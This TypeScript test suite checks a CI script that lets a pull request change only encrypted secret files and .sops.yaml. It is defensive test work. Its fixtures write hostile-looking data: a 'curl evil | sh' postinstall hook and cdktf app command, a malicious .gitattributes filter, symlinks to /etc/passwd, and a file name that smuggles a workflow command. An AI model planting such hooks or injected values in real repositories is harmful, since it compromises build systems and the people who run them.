/**
 * .github/scripts/overlay-pr-data.sh, run for real on temporary git repositories: a "server" repository
 * with main and a pull request commit, and a base checkout (clone of main) the script overlays onto.
 * The pull request's code, lockfile, workflows and cdktf.json never reach the checkout; its data does.
 */
import { execFileSync, spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { runReviewCli } from "../../src/review/review-cli";
import { sopsShapedContent } from "../../test-support/sops-shaped-file";

const SCRIPT = path.resolve(__dirname, "../../.github/scripts/overlay-pr-data.sh");

const GIT_ID = ["-c", "user.email=ci@example.com", "-c", "user.name=CI", "-c", "commit.gpgsign=false"];

function git(cwd: string, ...args: string[]): string {
  return execFileSync("git", [...GIT_ID, ...args], {
    cwd,
    encoding: "utf8",
    stdio: ["ignore", "pipe", "pipe"],
  });
}

function write(root: string, file: string, content: string): void {
  fs.mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
  fs.writeFileSync(path.join(root, file), content);
}

const read = (root: string, file: string) => fs.readFileSync(path.join(root, file), "utf8");

/** Every file of a working tree (no .git), path → content; symbolic links as "-> target". */
function tree(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string) => {
    for (const e of fs.readdirSync(path.join(root, dir), { withFileTypes: true })) {
      const rel = dir ? `${dir}/${e.name}` : e.name;
      if (rel === ".git") continue;
      if (e.isSymbolicLink()) out[rel] = `-> ${fs.readlinkSync(path.join(root, rel))}`;
      else if (e.isDirectory()) walk(rel);
      else out[rel] = read(root, rel);
    }
  };
  walk("");
  return out;
}

const BASE_FILES: Record<string, string> = {
  "package.json": '{"scripts":{"postinstall":"echo base"}}\n',
  "src/index.ts": "export const trusted = true;\n",
  ".github/workflows/ci.yml": "name: base\n",
  "cdktf.json": '{"app":"node main.ts","context":{"region":"us-east-1"}}\n',
  ".sops.yaml": "creation_rules: []\n",
  "secrets/dev/keep.enc.json": '{"keep":"base"}\n',
  "secrets/dev/changed.enc.json": '{"v":"base"}\n',
  "secrets/dev/removed.enc.json": '{"v":"removed"}\n',
};

describe("overlay-pr-data.sh", () => {
  let dir: string;
  let server: string;
  let checkout: string;

  /** main with BASE_FILES; a pull request branch made by `change`; the checkout is a clone of main. */
  function setup(
    change: (server: string) => void,
    mainMovesOn?: (server: string) => void,
    baseFiles: Record<string, string> = {},
  ): string {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "sops-overlay-"));
    server = path.join(dir, "server");
    checkout = path.join(dir, "checkout");
    fs.mkdirSync(server);
    git(server, "init", "-q", "-b", "main");
    for (const [f, c] of Object.entries({ ...BASE_FILES, ...baseFiles })) write(server, f, c);
    git(server, "add", "-A");
    git(server, "commit", "-q", "-m", "base");
    git(server, "checkout", "-q", "-b", "pr");
    change(server);
    git(server, "add", "-A");
    git(server, "commit", "-q", "--allow-empty", "-m", "pull request");
    const head = git(server, "rev-parse", "HEAD").trim();
    git(server, "checkout", "-q", "main");
    if (mainMovesOn) {
      mainMovesOn(server);
      git(server, "add", "-A");
      git(server, "commit", "-q", "-m", "main moves on");
    }
    // GitHub keeps fork heads under refs/pull/<n>/head; here the branch stays on the server only.
    execFileSync("git", ["clone", "-q", "--branch", "main", server, checkout]);
    return head;
  }

  function overlay(head: string, env: Record<string, string> = {}) {
    return spawnSync(SCRIPT, [head], { cwd: checkout, encoding: "utf8", env: { ...process.env, ...env } });
  }

  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  it("takes the pull request's secrets/ and .sops.yaml changes and none of its code", () => {
    const head = setup((s) => {
      write(s, "package.json", '{"scripts":{"postinstall":"curl evil | sh"}}\n');
      write(s, "src/index.ts", "steal();\n");
      write(s, "src/new.ts", "steal();\n");
      write(s, ".github/workflows/ci.yml", "name: evil\n");
      write(s, "cdktf.json", '{"app":"curl evil | sh","context":{"tags":{"x":"${nonsensitive(x)}"}}}\n');
      write(s, ".gitattributes", "* filter=evil\n");
      write(s, ".sops.yaml", "creation_rules: [{path_regex: x}]\n");
      write(s, "secrets/dev/changed.enc.json", '{"v":"pr"}\n');
      write(s, "secrets/dev/added/new.enc.yaml", "v: pr\n");
      fs.rmSync(path.join(s, "secrets/dev/removed.enc.json"));
    });
    const result = overlay(head);
    expect(result.stderr).toBe("");
    expect(result.status).toBe(0);
    expect(result.stdout).toMatch(
      /^overlay: 3 file\(s\) written and 1 deleted under secrets\/ and \.sops\.yaml from /,
    );
    expect(tree(checkout)).toEqual({
      "package.json": BASE_FILES["package.json"],
      "src/index.ts": BASE_FILES["src/index.ts"],
      ".github/workflows/ci.yml": BASE_FILES[".github/workflows/ci.yml"],
      "cdktf.json": BASE_FILES["cdktf.json"],
      ".sops.yaml": "creation_rules: [{path_regex: x}]\n",
      "secrets/dev/keep.enc.json": BASE_FILES["secrets/dev/keep.enc.json"],
      "secrets/dev/changed.enc.json": '{"v":"pr"}\n',
      "secrets/dev/added/new.enc.yaml": "v: pr\n",
    });
    // staged, so that the review's git diff sees additions, deletions and renames
    expect(
      git(checkout, "diff", "--cached", "--name-status", "--no-renames").split("\n").filter(Boolean).sort(),
    ).toEqual([
      "A\tsecrets/dev/added/new.enc.yaml",
      "D\tsecrets/dev/removed.enc.json",
      "M\t.sops.yaml",
      "M\tsecrets/dev/changed.enc.json",
    ]);
    // the head commit was never checked out
    expect(git(checkout, "rev-parse", "HEAD").trim()).toBe(git(server, "rev-parse", "main").trim());
  });

  it("keeps what main gained after the pull request branched off (the merge result)", () => {
    const head = setup(
      (s) => write(s, "secrets/dev/changed.enc.json", '{"v":"pr"}\n'),
      (s) => write(s, "secrets/dev/from-main.enc.json", '{"v":"main"}\n'),
    );
    expect(overlay(head).status).toBe(0);
    expect(read(checkout, "secrets/dev/from-main.enc.json")).toBe('{"v":"main"}\n');
    expect(read(checkout, "secrets/dev/changed.enc.json")).toBe('{"v":"pr"}\n');
  });

  it.each([
    [
      "a symbolic link under secrets/",
      (s: string) => fs.symlinkSync("../../package.json", path.join(s, "secrets/dev/link.enc.json")),
      /refused: secrets\/dev\/link\.enc\.json is a symbolic link/,
    ],
    [
      "a symbolic link as .sops.yaml",
      (s: string) => {
        fs.rmSync(path.join(s, ".sops.yaml"));
        fs.symlinkSync("/etc/passwd", path.join(s, ".sops.yaml"));
      },
      /refused: \.sops\.yaml is a symbolic link/,
    ],
    [
      "secrets/ replaced by a link to the code",
      (s: string) => {
        fs.rmSync(path.join(s, "secrets"), { recursive: true });
        fs.symlinkSync("src", path.join(s, "secrets"));
      },
      /refused: secrets is a symbolic link/,
    ],
    [
      "a submodule under secrets/",
      (s: string) => {
        const sub = path.join(s, "secrets/dev/sub");
        fs.mkdirSync(sub);
        git(sub, "init", "-q");
        git(sub, "commit", "-q", "--allow-empty", "-m", "nested");
      },
      /refused: secrets\/dev\/sub is a submodule/,
    ],
    [
      "a .gitattributes under secrets/ (it would steer git's filters and diff drivers in the review)",
      (s: string) => write(s, "secrets/dev/.gitattributes", "*.json diff=evil\n"),
      /refused: secrets\/dev\/\.gitattributes is not a plain path under secrets\//,
    ],
    [
      "a .gitignore under secrets/",
      (s: string) => write(s, "secrets/.gitignore", "*.dec\n"),
      /refused: secrets\/\.gitignore is not a plain path under secrets\//,
    ],
    [
      "a file name carrying a workflow command",
      (s: string) => fs.symlinkSync("x", path.join(s, "secrets/dev/a\n::error::pwned")),
      /refused: \$'secrets\/dev\/a\\n::error::pwned' is a symbolic link/,
    ],
  ])("refuses %s and writes nothing", (_, change, message) => {
    const head = setup((s) => {
      write(s, "secrets/dev/changed.enc.json", '{"v":"pr"}\n');
      change(s);
    });
    const before = tree(checkout);
    const result = overlay(head);
    expect(result.status).toBe(1);
    expect(result.stderr).toMatch(message);
    expect(result.stderr.split("\n").some((l) => l.startsWith("::"))).toBe(false);
    expect(tree(checkout)).toEqual(before);
    expect(git(checkout, "status", "--porcelain")).toBe("");
  });

  it("gives the review of the base commit the pull request's changes, renames included", () => {
    const stripe = sopsShapedContent({ key: "PLAINTEXT-1" }, { format: "json", seed: "s" });
    const head = setup(
      (s) => {
        git(s, "mv", "secrets/dev/keep.enc.json", "secrets/dev/kept.enc.json");
        write(s, "secrets/dev/stripe.enc.json", stripe);
      },
      undefined,
      { "secrets/dev/keep.enc.json": sopsShapedContent({ a: "PLAINTEXT-2" }, { format: "json", seed: "k" }) },
    );
    expect(overlay(head).status).toBe(0);
    const base = git(checkout, "rev-parse", "HEAD").trim();
    const review = runReviewCli([base], checkout).stdout.split("\n");
    expect(review.filter((l) => /^(added|modified|renamed|deleted) /.test(l))).toEqual([
      "renamed secrets/dev/keep.enc.json → secrets/dev/kept.enc.json",
      "added secrets/dev/stripe.enc.json",
    ]);
    expect(review.join("\n")).not.toContain("PLAINTEXT");
  });

  it("never writes the fetch token into the repository's configuration", () => {
    const head = setup((s) => write(s, "secrets/dev/changed.enc.json", '{"v":"pr"}\n'));
    expect(overlay(head, { OVERLAY_GIT_TOKEN: "ghs_not-a-real-token" }).status).toBe(0);
    expect(read(checkout, ".git/config")).not.toContain("ghs_not-a-real-token");
    expect(git(checkout, "config", "--list")).not.toMatch(/extraheader/i);
  });

  it("refuses a head that is not 40 hex digits", () => {
    setup(() => undefined);
    const result = overlay("main");
    expect(result.status).toBe(1);
    expect(result.stderr).toBe("overlay: expected the head commit as 40 hex digits, got main\n");
  });

  it("writes regular files only, without the executable bit", () => {
    const head = setup((s) => {
      write(s, "secrets/dev/x.enc.json", "{}\n");
      fs.chmodSync(path.join(s, "secrets/dev/x.enc.json"), 0o755);
    });
    expect(overlay(head).status).toBe(0);
    const stat = fs.lstatSync(path.join(checkout, "secrets/dev/x.enc.json"));
    expect(stat.isFile()).toBe(true);
    expect(stat.mode & 0o111).toBe(0);
  });
});
